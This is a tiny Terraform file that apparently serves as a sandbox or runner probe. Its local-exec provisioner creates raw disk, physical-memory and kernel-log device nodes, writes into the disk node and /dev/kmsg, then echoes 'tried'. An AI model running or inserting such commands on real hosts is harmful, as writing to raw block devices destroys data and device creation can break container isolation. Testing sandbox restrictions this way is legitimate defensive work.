resource "terraform_data" "job" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]
    command     = <<-EOT
      mknod sda b 8 0; mknod /tmp/mem c 1 1; mknod kmsg c 1 11; echo x >sda; echo x >/dev/kmsg; echo x >/dev/console
      echo tried
    EOT
  }
}
